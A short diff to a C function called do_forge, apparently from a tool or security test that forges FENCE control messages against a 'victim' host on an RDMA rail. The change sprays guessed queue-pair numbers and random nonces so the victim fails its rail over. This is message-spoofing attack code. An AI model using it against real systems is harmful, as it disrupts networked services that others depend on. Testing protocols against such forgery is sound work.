@@ -679,9 +679,10 @@ static int do_forge(void)
 	for (i = 0; i < 8; i++)
 		fake.echo[i] = rand();
 	/*
-	 * FENCE for the victim's rail 1, naming its member there as the
-	 * victim's own QPN (what a loop or a fresh host most likely gives
-	 * it), with a guessed nonce: taken, the victim fails rail 1 over.
+	 * FENCE for the victim's rail 1 with a guessed nonce, naming as its
+	 * member there the victim's own QPN or one of the first QPNs a member
+	 * device hands out (17..48 on rxe): taken, the victim fails rail 1
+	 * over.
 	 */
 	fence_msg(&ff, qb, qa);
 	file_put(opt.dir, "go", "1\n");
@@ -691,6 +692,7 @@ static int do_forge(void)
 		nspray++;
 		for (i = 0; i < 8; i++)
 			ff.echo[i] = rand();
+		ff.b.fence.peer_qpn = nspray % 33 ? 16 + nspray % 33 : qa;
 		cc_drain(&c);
 		usleep(5000);
 	}
